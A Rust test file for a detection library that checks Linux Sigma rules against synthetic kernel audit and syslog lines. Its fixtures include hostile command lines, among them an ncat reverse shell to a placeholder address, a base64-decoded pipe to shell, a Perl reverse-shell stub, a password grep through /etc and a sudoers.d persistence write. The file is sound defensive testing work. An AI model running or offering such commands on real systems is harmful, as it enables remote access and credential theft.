//! The public collection for Linux: every rule loads, and rules of each of its logs find what they are about in lines as the
//! kernel's audit log and syslog have them.
#![allow(clippy::print_stdout, reason = "says why it is skipped")]

use std::path::PathBuf;

use keelguard_rules::events::audit::Audit;
use keelguard_rules::events::syslog::{self, Reference};
use keelguard_rules::{Match, Sigma};

/// The folder of the development data.
fn folder() -> Option<PathBuf> {
    let root = std::env::var_os("KEELGUARD_TEST_DATA")
        .map_or_else(|| PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data"), PathBuf::from);
    let path = root.join("sigma/linux");
    if path.is_dir() {
        return Some(path);
    }
    println!("skipped: there is no {}; KEELGUARD_TEST_DATA says where the development data lies", path.display());
    None
}

#[test]
fn every_rule_for_linux_can_be_used() {
    let Some(folder) = folder() else { return };
    let (sigma, unusable) = Sigma::load(&folder);
    let reasons: Vec<String> = unusable.iter().map(ToString::to_string).collect();
    assert!(reasons.is_empty(), "{reasons:#?}");
    assert!(sigma.rules().count() >= 210, "{}", sigma.rules().count());
}

/// The records of a program that was started, as the kernel writes them.
fn started(image: &str, arguments: &[&str]) -> Vec<String> {
    let word = |(number, argument): (usize, &&str)| {
        // In quotes only where there is nothing in it that could be mistaken.
        if argument.bytes().all(|byte| byte.is_ascii_graphic() && byte != b'"') {
            return format!("a{number}=\"{argument}\"");
        }
        let digits: String = argument.bytes().map(|byte| format!("{byte:02X}")).collect();
        format!("a{number}={digits}")
    };
    let words: Vec<String> = arguments.iter().enumerate().map(word).collect();
    vec![
        format!(
            "type=SYSCALL msg=audit(1700000000.1:1): arch=c000003e syscall=59 success=yes exit=0 a0=1 items=1 ppid=1 pid=2 auid=1000 uid=33 euid=33 ses=1 comm=\"x\" exe=\"{image}\" key=(null)"
        ),
        format!("type=EXECVE msg=audit(1700000000.1:1): argc={} {}", arguments.len(), words.join(" ")),
        "type=CWD msg=audit(1700000000.1:1): cwd=\"/tmp\"".to_owned(),
        "type=EOE msg=audit(1700000000.1:1): ".to_owned(),
    ]
}

fn audited(sigma: &mut Sigma, lines: &[String]) -> Vec<Match> {
    let mut audit = Audit::default();
    let mut found = Vec::new();
    for line in lines {
        audit.line(line, |event| found.extend(sigma.run(event)));
    }
    audit.finish(|event| found.extend(sigma.run(event)));
    assert_eq!(audit.unread(), 0);
    found
}

#[test]
fn attacks_in_the_audit_log_are_found_by_the_rules_about_them() {
    let Some(folder) = folder() else { return };
    let (mut sigma, _) = Sigma::load(&folder);
    for (image, arguments, title) in [
        (
            "/usr/bin/ncat",
            &["ncat", "-e", "/bin/bash", "198.51.100.7", "4444"][..],
            "Potential Netcat Reverse Shell Execution",
        ),
        ("/usr/bin/base64", &["base64", "-d", "x"], "Decode Base64 Encoded Text"),
        ("/usr/bin/dash", &["sh", "-c", "echo aWQ= | base64 -d | sh"], "Linux Base64 Encoded Pipe to Shell"),
        (
            "/usr/bin/perl",
            &["perl", "-e", "use Socket;connect(S,x);open(STDIN,S);exec(x)"],
            "Potential Perl Reverse Shell Execution",
        ),
        ("/usr/bin/arecord", &["arecord", "-vv", "-fdat"], "Audio Capture"),
        ("/usr/bin/truncate", &["truncate", "-s", "+1M", "/bin/x"], "Binary Padding - Linux"),
        ("/usr/bin/grep", &["grep", "-ri", "password", "/etc"], "Credentials In Files - Linux"),
        (
            "/usr/sbin/iptables",
            &["iptables", "-t", "nat", "-A", "PREROUTING", "--to-ports 42391"],
            "Bpfdoor TCP Ports Redirect",
        ),
        ("/tmp/miner", &["/tmp/miner"], "Program Executions in Suspicious Folders"),
        ("/usr/bin/dash", &["sh"], "Webshell Remote Command Execution"),
    ] {
        let found = audited(&mut sigma, &started(image, arguments));
        let titles: Vec<&str> = found.iter().map(|found| found.rule.title.as_str()).collect();
        assert!(titles.contains(&title), "{arguments:?}: {titles:?}");
    }
}

#[test]
fn files_and_connections_of_the_audit_log_are_found_by_the_rules_about_them() {
    let Some(folder) = folder() else { return };
    let (mut sigma, _) = Sigma::load(&folder);
    let call = |number: u32, image: &str| {
        format!(
            "type=SYSCALL msg=audit(1700000000.1:1): arch=c000003e syscall={number} success=yes pid=2 ppid=1 uid=0 exe=\"{image}\""
        )
    };
    let made = [
        call(257, "/usr/bin/vim.basic"),
        "type=CWD msg=audit(1700000000.1:1): cwd=\"/etc\"".to_owned(),
        "type=PATH msg=audit(1700000000.1:1): item=1 name=\"sudoers.d/x\" nametype=CREATE".to_owned(),
    ];
    let connected = [
        call(42, "/usr/bin/x"),
        "type=SOCKADDR msg=audit(1700000000.1:1): saddr=0200115CC63364070000000000000000".to_owned(),
    ];
    for (lines, title) in [
        (&made[..], "Persistence Via Sudoers.d Files"),
        (&connected[..], "Potentially Suspicious Malware Callback Communication - Linux"),
    ] {
        let found = audited(&mut sigma, lines);
        let titles: Vec<&str> = found.iter().map(|found| found.rule.title.as_str()).collect();
        assert!(titles.contains(&title), "{titles:?}");
    }
}

#[test]
fn lines_of_syslog_are_found_by_the_rules_for_their_service_alone() {
    let Some(folder) = folder() else { return };
    let (mut sigma, _) = Sigma::load(&folder);
    let reference = Reference { until: jiff::civil::date(2026, 11, 24), offset: jiff::tz::Offset::UTC };
    for (line, title) in [
        (
            "Nov 24 08:10:03 web sshd[8]: error: Corrupted MAC on input. [preauth]",
            Some("Suspicious OpenSSH Daemon Error"),
        ),
        ("Nov 24 08:10:03 web app[8]: error: Corrupted MAC on input. [preauth]", None),
        ("Nov 24 08:10:03 web crontab[8]: (root) REPLACE (root)", Some("Modifying Crontab")),
        ("Nov 24 08:10:03 web app[8]: (root) REPLACE (root)", None),
        ("Nov 24 08:10:03 web clamd[8]: /tmp/x: Win.Trojan.Agent-1 FOUND", Some("Relevant ClamAV Message")),
        ("Nov 24 08:10:03 web named[8]: client 198.51.100.7: denied AXFR from x", Some("Suspicious Named Error")),
        (
            "Nov 24 08:10:03 web useradd[8]: new user: name=x, UID=0, GID=0, home=/root",
            Some("Privileged User Has Been Created"),
        ),
        ("Nov 24 08:10:03 web systemd[1]: Started session-3.scope - Session 3 of User deploy.", None),
    ] {
        let event = syslog::event(line, reference).unwrap();
        let found = sigma.run(&event);
        let titles: Vec<&str> = found.iter().map(|found| found.rule.title.as_str()).collect();
        assert_eq!(titles, title.into_iter().collect::<Vec<_>>(), "{line}");
    }
}
